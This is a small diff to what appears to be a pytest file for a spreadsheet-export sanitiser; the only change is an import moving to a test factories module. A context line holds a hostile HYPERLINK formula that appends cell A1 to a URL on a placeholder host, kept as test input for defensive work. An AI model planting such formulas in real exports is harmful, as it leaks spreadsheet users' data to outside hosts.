@@ -8,7 +8,7 @@ import pytest
 
 from directives.models import Agency
 from procedures.export import neutralise
-from procedures.testing import catalogue, make_procedure
+from tests.factories import catalogue, make_procedure
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
 
